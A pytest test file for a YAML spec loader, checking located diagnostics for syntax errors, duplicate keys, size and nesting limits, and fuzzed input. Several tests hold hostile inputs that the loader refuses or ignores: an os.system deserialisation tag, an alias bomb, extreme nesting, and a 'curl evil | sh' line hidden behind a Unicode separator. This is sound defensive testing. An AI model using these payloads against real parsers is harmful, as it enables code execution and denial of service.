"""load_spec: YAML to plain data with positions; every bad input is a located diagnostic."""

from __future__ import annotations

import os
import random
from pathlib import Path

import pytest

from batchspec.diagnostics import Diagnostic
from batchspec.spec.document import LoadedSpec
from batchspec.spec.load import MAX_BYTES, load_spec
from batchspec.spec.yaml_events import MAX_DEPTH, MAX_VALUES, json_path

FIXTURE = Path(__file__).parent / "fixtures" / "topn.yaml"


def load_text(tmp_path: Path, text: str | bytes) -> LoadedSpec | list[Diagnostic]:
    path = tmp_path / "spec.yaml"
    if isinstance(text, str):
        path.write_text(text, encoding="utf-8")
    else:
        path.write_bytes(text)
    return load_spec(path)


def problems(tmp_path: Path, text: str | bytes) -> list[str]:
    result = load_text(tmp_path, text)
    assert isinstance(result, list), f"expected diagnostics, loaded {result}"
    return [f"{d.line}:{d.col}: {d.path}: {d.message}" for d in result]


def loaded(tmp_path: Path, text: str) -> LoadedSpec:
    result = load_text(tmp_path, text)
    assert isinstance(result, LoadedSpec), result
    return result


def test_fixture_loads_with_positions() -> None:
    spec = load_spec(FIXTURE)
    assert isinstance(spec, LoadedSpec)
    assert spec.raw == FIXTURE.read_bytes()
    assert spec.data["pool"]["nodes"] == {"dedicated": 2, "spot": 0}
    assert spec.data["vars"] == {"num_words": 3}
    assert spec.positions[("pool",)] == (15, 1)
    assert spec.positions[("pool", "nodes", "dedicated")] == (18, 11)
    assert spec.positions[("uploads", 1)] == (14, 5)
    assert spec.positions[("job", "tasks", 0, "foreach", "container")] == (29, 17)
    assert spec.locate(("pool", "nodes", "dedicated", "deeper")) == (18, 11)


def test_keys_are_the_text_as_written_and_dates_stay_strings(tmp_path: Path) -> None:
    spec = loaded(tmp_path, "on: yes\n1: one\nday: 2024-01-31\nnull: ~\n")
    assert spec.data == {"on": True, "1": "one", "day": "2024-01-31", "null": None}


def test_merge_keys_are_expanded_and_located_at_the_merge(tmp_path: Path) -> None:
    text = "base: &b {x: 1, y: 2}\nother:\n  <<: *b\n  y: 3\n"
    spec = loaded(tmp_path, text)
    assert spec.data["other"] == {"x": 1, "y": 3}
    assert list(spec.data["other"]) == ["x", "y"]
    assert spec.positions[("other", "x")] == (3, 3)
    assert spec.positions[("other", "y")] == (4, 3)


def test_a_byte_order_mark_is_not_a_column(tmp_path: Path) -> None:
    spec = loaded(tmp_path, "\ufeffa: {b: 1}\n")
    assert spec.positions[("a", "b")] == (1, 5)


def test_columns_count_characters_not_bytes(tmp_path: Path) -> None:
    assert problems(tmp_path, 'x: {a: "ééé", a: 2}\n') == [
        "1:15: $.x.a: duplicate key 'a' (first defined at line 1)"
    ]


def test_duplicate_keys_are_all_reported_and_keep_the_first_value(tmp_path: Path) -> None:
    text = "a: 1\nb:\n  c: 1\n  c: {d: 2}\na: 3\n"
    assert problems(tmp_path, text) == [
        "4:3: $.b.c: duplicate key 'c' (first defined at line 3)",
        "5:1: $.a: duplicate key 'a' (first defined at line 1)",
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a: b: c\n", "1:5: $: YAML syntax error: mapping values are not allowed in this context"),
        (
            "a:\n\t- 1\n",
            "2:1: $: YAML syntax error: a tab cannot start a token; indent with spaces",
        ),
        (
            "a: [1, 2\nb: 3\n",
            "2:2: $: YAML syntax error: did not find expected ',' or ']' "
            "(while parsing a flow sequence at line 1)",
        ),
        (
            'a: "open\n',
            "2:1: $: YAML syntax error: found unexpected end of stream "
            "(while scanning a quoted scalar at line 1)",
        ),
        (
            "a:\n  b: 1\n c: 2\n",
            "3:2: $: YAML syntax error: did not find expected key "
            "(while parsing a block mapping at line 1)",
        ),
    ],
)
def test_syntax_errors_are_located(tmp_path: Path, text: str, expected: str) -> None:
    assert problems(tmp_path, text) == [expected]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "1:1: $: the file is empty: a spec is a mapping that starts with 'batchspec: 1'"),
        (
            "# nothing\n",
            "1:1: $: the file is empty: a spec is a mapping that starts with 'batchspec: 1'",
        ),
        ("~\n", "1:1: $: the file is empty: a spec is a mapping that starts with 'batchspec: 1'"),
        ("- a\n", "1:1: $: the top level must be a mapping of spec keys, found a list"),
        ("\n\nhello\n", "3:1: $: the top level must be a mapping of spec keys, found a string"),
        ("a: 1\n---\nb: 2\n", "2:1: $: the file holds more than one YAML document; a spec is one"),
        ("a: *nowhere\n", "1:4: $: the alias *nowhere refers to no anchor &nowhere before it"),
        ("a: &x [*x]\n", "1:8: $: the alias *x refers to no anchor &x before it"),
        ("a: !!int twelve\n", "1:4: $.a: 'twelve' cannot be read as int"),
        (
            "a: !!python/object/apply:os.system [ls]\n",
            "1:4: $.a: the YAML tag 'tag:yaml.org,2002:python/object/apply:os.system' "
            "is not supported in a spec",
        ),
        (
            "a: !!set {x}\n",
            "1:4: $.a: the YAML tag 'tag:yaml.org,2002:set' is not supported in a spec",
        ),
        ("? [a]\n: 1\n", "1:3: $: a mapping key must be a plain string, not a mapping or a list"),
        ("a: &k b\n*k : 1\n", "2:1: $: an alias cannot be a mapping key"),
        ("a:\n  <<: 5\n", "2:3: $.a: a merge key '<<' takes a mapping or a list of mappings"),
        (
            "nodes: " + "9" * 5000 + "\n",
            "1:8: $.nodes: '99999999999999999999999999999999'... (5,000 characters) cannot be "
            "read as int: integers of more than 4,300 digits are refused",
        ),
        (
            "a: x\x07y\n",
            "1:5: $: character U+0007 is not allowed in YAML (control characters are not allowed)",
        ),
    ],
)
def test_bad_documents_are_located(tmp_path: Path, text: str, expected: str) -> None:
    assert problems(tmp_path, text) == [expected]


def test_nul_bytes_and_bad_utf8_are_located(tmp_path: Path) -> None:
    assert problems(tmp_path, b"a: 1\nb: x\x00\n") == [
        "2:5: $: the file holds a NUL byte: a spec must be UTF-8 text"
    ]
    assert problems(tmp_path, "a: é\nb: ".encode() + b"\xe9t\xe9\n") == [
        "2:4: $: byte 0xe9 is not valid UTF-8: a spec must be UTF-8 text"
    ]


def test_files_over_the_size_limit_are_refused_unread(tmp_path: Path) -> None:
    size = MAX_BYTES + 1
    assert problems(tmp_path, b"#" * size) == [
        f"1:1: $: the file is {size:,} bytes; a spec may be at most 5 MB ({MAX_BYTES:,} bytes)"
    ]
    assert isinstance(load_text(tmp_path, b"a: 1\n" + b"#" * (MAX_BYTES - 6) + b"\n"), LoadedSpec)


def test_unreadable_paths_are_diagnostics(tmp_path: Path) -> None:
    missing = load_spec(tmp_path / "missing.yaml")
    assert isinstance(missing, list)
    assert [d.message for d in missing] == ["cannot read the file: No such file or directory"]
    directory = load_spec(tmp_path)
    assert isinstance(directory, list)
    assert [d.message for d in directory] == ["cannot read the file: Is a directory"]


@pytest.mark.timeout(30)
def test_a_named_pipe_is_read_without_waiting_for_a_writer(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.yaml"
    os.mkfifo(fifo)
    idle = load_spec(fifo)
    assert isinstance(idle, list)
    assert [str(d) for d in idle] == [
        f"{fifo}:1:1: $: the file is a named pipe that no program is writing to"
    ]
    # A pipe with a writer, as `batchspec validate <(...)` gives, is read as before.
    read_end, write_end = os.pipe()
    try:
        os.write(write_end, b"batchspec: 1\n")
        os.close(write_end)
        loaded = load_spec(Path(f"/dev/fd/{read_end}"))
    finally:
        os.close(read_end)
    assert isinstance(loaded, LoadedSpec) and loaded.data == {"batchspec": 1}


def test_deep_nesting_stops_at_the_limit(tmp_path: Path) -> None:
    # 100,000 levels would crash a recursive composer; the limit stops reading at level 65.
    deep = "a: " + "[" * 100_000 + "]" * 100_000 + "\n"
    assert problems(tmp_path, deep) == [
        f"1:{4 + MAX_DEPTH - 1}: $: the document is nested more than {MAX_DEPTH} levels deep; "
        "a spec is not"
    ]
    block = "".join("  " * i + "k:\n" for i in range(MAX_DEPTH + 5))
    assert problems(tmp_path, block)[0].endswith("levels deep; a spec is not")
    ok = "a: " + "[" * (MAX_DEPTH - 1) + "]" * (MAX_DEPTH - 1) + "\n"
    assert isinstance(load_text(tmp_path, ok), LoadedSpec)


def test_alias_bombs_are_refused(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        refs = ", ".join([f"*a{i - 1}"] * 10)
        lines.append(f"a{i}: &a{i} [{refs}]")
    found = problems(tmp_path, "\n".join(lines) + "\n")
    assert len(found) == 1
    assert f"more than {MAX_VALUES:,} values once its aliases are expanded" in found[0]
    # a5 is the first anchor that expands to over a million values: it is refused there.
    assert found[0].startswith("6:45: $:")


def test_aliases_share_values_within_the_budget(tmp_path: Path) -> None:
    spec = loaded(tmp_path, "a: &x {b: [1, 2]}\nc: *x\nd: [*x, *x]\n")
    assert spec.data["c"] == {"b": [1, 2]}
    assert spec.data["d"] == [{"b": [1, 2]}, {"b": [1, 2]}]
    assert spec.positions[("d", 1)] == (3, 9)


def test_json_path_quotes_odd_keys() -> None:
    assert json_path(()) == "$"
    assert json_path(("pool", "nodes", 0, "a-b_c")) == "$.pool.nodes[0].a-b_c"
    assert json_path(("env", "A B", "x.y")) == '$.env["A B"]["x.y"]'


def _mutations(seed: int, base: bytes) -> bytes:
    rng = random.Random(seed)
    data = bytearray(base)
    tokens = [b"&a ", b"*a", b"<<: ", b"- ", b": ", b"{", b"}", b"[", b"]", b"\t", b"!!", b'"']
    tokens += [b"'", b"---\n", b"? ", b"|", b">", b"%YAML 1.1\n", b"\n", b"#", b"\xff", b"\x00"]
    for _ in range(rng.randint(1, 8)):
        at = rng.randrange(len(data) + 1)
        choice = rng.random()
        if choice < 0.4:
            data[at:at] = rng.choice(tokens)
        elif choice < 0.7:
            del data[at : at + rng.randint(1, 20)]
        else:
            data[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 6)))
    return bytes(data)


def test_no_input_raises(tmp_path: Path) -> None:
    base = FIXTURE.read_bytes()
    rng = random.Random(20261124)
    inputs = [_mutations(seed, base) for seed in range(400)]
    inputs += [bytes(rng.randrange(256) for _ in range(rng.randint(0, 300))) for _ in range(200)]
    inputs += [bytes(rng.choice(b"ab:-[]{}&*!|>#'\"\n ,?") for _ in range(60)) for _ in range(300)]
    for data in inputs:
        result = load_text(tmp_path, data)
        if isinstance(result, list):
            assert result, data
            assert all(d.line >= 1 and d.col >= 1 and d.message for d in result), data
        else:
            assert isinstance(result.data, dict), data


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85"])
def test_unicode_line_separators_are_read_as_yaml_1_2_reads_them(
    tmp_path: Path, separator: str
) -> None:
    # YAML 1.1 (PyYAML) breaks the line there; YAML 1.2 and the editors' language server do
    # not: the comment hides nothing, a value keeps the character, positions count no line.
    path = tmp_path / "s.yaml"
    path.write_text(
        f"a: 1 # note{separator}b: [curl evil | sh]\nc: 'x{separator}y'\nd: 2\n", encoding="utf-8"
    )
    loaded = load_spec(path)
    assert isinstance(loaded, LoadedSpec)
    assert loaded.data == {"a": 1, "c": f"x{separator}y", "d": 2}
    assert loaded.positions[("d",)] == (3, 1)
